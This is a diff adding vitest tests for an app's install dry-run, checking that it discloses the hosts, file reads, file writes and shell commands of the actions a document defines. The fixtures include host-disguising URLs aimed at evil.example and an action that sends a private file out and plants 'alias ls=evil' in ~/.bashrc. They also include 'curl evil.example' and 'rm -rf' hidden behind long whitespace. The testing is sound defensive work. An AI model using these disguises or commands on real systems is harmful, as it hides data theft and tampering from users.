@@ -1,0 +1,96 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { appPlace } from '../support/app-place.ts'
+import { startServer } from '../web/page-server.ts'
+
+const act = (id: string, text: string): string => `\`\`\`act.${id}\n${text}\n\`\`\`\n`
+
+describe('S33: what /install shows', () => {
+  it.each([
+    ['http://127.0.0.1:8000\\@api.github.com/x', '127.0.0.1:8000'],
+    ['http://api.github.com@127.0.0.1:8000/x', '127.0.0.1:8000'],
+    ['http:\\\\evil.example\\@api.github.com/x', 'evil.example'],
+    ['http://api.github.com#@evil.example/x', 'api.github.com'],
+    ['http://0x7f.1:80/x', '127.0.0.1'],
+    ['http://2130706433/x', '127.0.0.1'],
+    ['https://ＡＰＩ.example/x', 'api.example'],
+    ['https://аpi.example/x', 'xn--pi-6kc.example'],
+    ['https://{sub}.example.com/x', '{sub}.example.com'],
+    ['https://{sub}@example.com/x', 'example.com'],
+    ['https://example.com/{sub}@evil.example', 'example.com'],
+    ['http://127.0.0.1:{sub}\\@api.github.com/x', '127.0.0.1:{sub}'],
+    ['https://$HOST/x', '$HOST'],
+  ])('%j is the host that the request goes to: %s', async (url, host) => {
+    const { reply, put } = await appPlace()
+    put({ 'a.md': act('go', `GET '${url}'\n  sub: string`) })
+    const plan = await reply('/install --dry-run a.md')
+    expect(plan).toContain(`Reaches:\n- ${host}\n- wherever these redirect\n`)
+  })
+
+  it('names every file that is read and written without a command, and that is what happens', async () => {
+    const { reply, put, home } = await appPlace()
+    const bodies: string[] = []
+    const { origin } = await startServer((request, response) => {
+      request.on('data', (part: Buffer) => bodies.push(part.toString()))
+      request.on('end', () => response.writeHead(200, { 'Content-Type': 'text/plain' }).end('alias ls=evil'))
+    })
+    const send = `POST ${origin}/x -d '{f|file}'\n  f: path = "~/notes.txt"\n  to: string = "rc"`
+    const saves = 'save: Response.body\nto: ~/.bash{to}\nfor: x in Response.body\nsave: ~/deep/{x}\nend:'
+    put({ 'app.md': `${act('sync', send)}${act('sync.response', saves)}`, 'notes.txt': 'private' })
+    const plan = await reply('/install app.md')
+    expect(plan).toContain('Runs: nothing\n')
+    expect(plan).toContain('Reads:\n- sync: the file {f}, else ~/notes.txt\n')
+    expect(plan).toContain(
+      'Writes:\n- sync: the file ~/.bash{to}, {to} is rc if not given\n- sync: the file ~/deep/{x}\n',
+    )
+    const help = await reply('/act.sync --help', 'app:app')
+    expect(help).toContain('Reads the file: {f}, else ~/notes.txt\n')
+    expect(help).toContain('Writes the file: ~/.bash{to}, {to} is rc if not given; ~/deep/{x}')
+    expect(await reply('/act.sync --dry-run', 'app:app')).toContain('\n\nWrites the file: ~/.bash{to}, {to} is rc')
+    await reply('/act.sync', 'app:app')
+    expect(bodies).toEqual(['private'])
+    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('alias ls=evil')
+  })
+
+  it('collapses blanks of a command and cuts nothing, however long it is', async () => {
+    const { reply, put } = await appPlace()
+    const hidden = `CLI echo ok${' '.repeat(2_100)}; curl evil.example${'\n'.repeat(50)}rm -rf x; : ${'y'.repeat(5_000)}; last\u00a0\u3000one`
+    put({ 'app.md': act('go', hidden) })
+    const shown = `\`echo ok ; curl evil.example\\nrm -rf x; : ${'y'.repeat(5_000)}; last\\u00a0\\u3000one\``
+    expect(await reply('/install --dry-run app.md')).toContain(`- go: ${shown}\n`)
+    await reply('/open app.md')
+    expect(await reply('/act.go --dry-run')).toContain('echo ok⟨2100 blanks⟩; curl evil.example⟨50 line ends⟩rm -rf x')
+  })
+
+  it('says of a command that what it reads, writes and reaches is not known, never that it is nothing', async () => {
+    const { reply, put } = await appPlace()
+    put({ 'app.md': act('go', 'CLI curl -s evil.example | tee ~/x') })
+    const plan = await reply('/install --dry-run app.md')
+    expect(plan).not.toContain('nothing')
+    expect(plan).toContain('Reads:\n- anything: its commands may read any file\n')
+    expect(plan).toContain('Writes:\n- anything: its commands may write any file\n')
+    expect(plan).toContain('Reaches:\n- anything: its commands may use the network\n')
+  })
+
+  it('names hosts that a document takes parts from, and actions that can never run', async () => {
+    const { reply, put } = await appPlace()
+    put({ 'app.md': `[!include:x](https://evil.example/x.md)\n\n${act('bad', 'RUN x')}` })
+    const plan = await reply('/install --dry-run app.md')
+    expect(plan).toContain('Reaches:\n- evil.example\n')
+    expect(plan).toMatch(/Refused, and never run:\n- bad in string\.md, line \d+: it begins with GET/)
+  })
+})
+
+describe('S33: an action of a file of the workspace', () => {
+  it('says in every list that it runs a command', async () => {
+    const { reply, put } = await appPlace()
+    put({
+      'README.md': `# Cloned\n${act('build', 'CLI ./build.sh {x}\n  x: string')}${act('get', 'GET http://127.0.0.1:1/')}`,
+    })
+    await reply('/open README.md')
+    expect(await reply('/act')).toBe('Actions\n---\n/act.build [--x STRING] (runs a command)\n/act.get')
+    for (const command of ['/act --help', '/act.build --help'])
+      expect(await reply(command)).toContain('\n\nRuns a command: it may read and write any file, and use the network')
+  })
+})
